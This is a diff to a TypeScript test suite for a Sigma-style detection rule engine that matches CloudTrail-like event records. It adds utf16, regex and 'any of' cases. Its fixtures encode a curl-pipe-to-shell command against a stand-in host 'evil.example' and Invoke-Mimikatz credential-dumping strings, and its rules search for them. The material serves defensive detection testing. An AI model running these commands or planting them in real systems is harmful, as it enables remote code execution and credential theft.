@@ -6,6 +6,7 @@ import { DetectionStore, rowsOf } from '../testing';
 
 const userData = Buffer.from('#!/bin/bash\ncurl http://evil.example/x | sh\n').toString('base64');
 const encodedCommand = Buffer.from('Invoke-Mimikatz -Command dump', 'utf16le').toString('base64');
+const withByteOrderMark = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Invoke-Mimikatz', 'utf16le')]).toString('base64');
 
 function record(id: string, eventName: string, identity: Record<string, unknown>, extra: Record<string, unknown> = {}) {
   return {
@@ -67,7 +68,7 @@ const RECORDS = [
     eventSource: 'ec2.amazonaws.com',
     userAgent: 'C:\\Tools\\agent.exe -verbose',
     sourceIPAddress: '10.20.0.4',
-    requestParameters: { instanceType: 't2.micro', maxCount: 5, userData, encodedCommand },
+    requestParameters: { instanceType: 't2.micro', maxCount: 5, userData, encodedCommand, withByteOrderMark },
   }),
   record('e8', 'GetCallerIdentity', user('scanner'), { eventSource: 'sts.amazonaws.com', userAgent: 'TruffleHog', errorCode: null }),
   record('e9', 'RunInstances', role('ci'), {
@@ -120,6 +121,8 @@ const CASES: Array<[string, string, string[]]> = [
   ['base64offset|contains finds it at any offset', "sel:\n  requestParameters.userData|base64offset|contains: 'curl http://evil'\ncondition: sel", ['e7']],
   ['base64offset|contains misses other text', "sel:\n  requestParameters.userData|base64offset|contains: 'wget http://evil'\ncondition: sel", []],
   ['utf16le|base64offset finds UTF-16 text', "sel:\n  requestParameters.encodedCommand|utf16le|base64offset|contains: 'Mimikatz'\ncondition: sel", ['e7']],
+  ['utf16 starts with a byte order mark', "sel:\n  requestParameters.withByteOrderMark|utf16|base64offset|contains: 'Invoke'\ncondition: sel", ['e7']],
+  ['utf16 needs the byte order mark', "sel:\n  requestParameters.encodedCommand|utf16|base64offset|contains: 'Invoke'\ncondition: sel", []],
   ['wide is utf16le', "sel:\n  requestParameters.encodedCommand|wide|base64offset|contains: 'Command dump'\ncondition: sel", ['e7']],
   ['without utf16 the text is UTF-8', "sel:\n  requestParameters.encodedCommand|base64offset|contains: 'Mimikatz'\ncondition: sel", []],
   [
@@ -151,6 +154,8 @@ const CASES: Array<[string, string, string[]]> = [
   ["'|all' keywords are all of them", "kw:\n  '|all':\n    - aws-cli\n    - carol\ncondition: kw", ['e3']],
   ['a keyword with a wildcard', "kw:\n  - 'truffle*og'\ncondition: kw", ['e8']],
   ['a single keyword', 'kw: mallory\ncondition: kw', ['e5']],
+  ['a keyword regular expression', "kw:\n  '|re': 'Truffle[Hh]og'\ncondition: kw", ['e8']],
+  ['a keyword regular expression respects case', "kw:\n  '|re': 'trufflehog'\ncondition: kw", []],
   // Conditions
   ['and not', 'sel:\n  eventName: CreateAccessKey\nfilter:\n  userIdentity.type: AssumedRole\ncondition: sel and not filter', ['e4']],
   ['or', 'a:\n  eventName: StopLogging\nb:\n  userIdentity.type: Root\ncondition: a or b', ['e1', 'e5']],
@@ -176,6 +181,7 @@ const CASES: Array<[string, string, string[]]> = [
     'a:\n  eventName: StopLogging\n_b:\n  eventName: TruffleHog\nc:\n  userAgent: TruffleHog\ncondition: 1 of them',
     ['e5', 'e8'],
   ],
+  ['any of is 1 of', 'selection_a:\n  eventName: StopLogging\nselection_b:\n  userIdentity.type: Root\ncondition: any of selection_*', ['e1', 'e5']],
   ['all of them', 'a:\n  eventName: ConsoleLogin\nb:\n  userIdentity.type: Root\ncondition: all of them', ['e1']],
   [
     '1 of with and not 1 of',
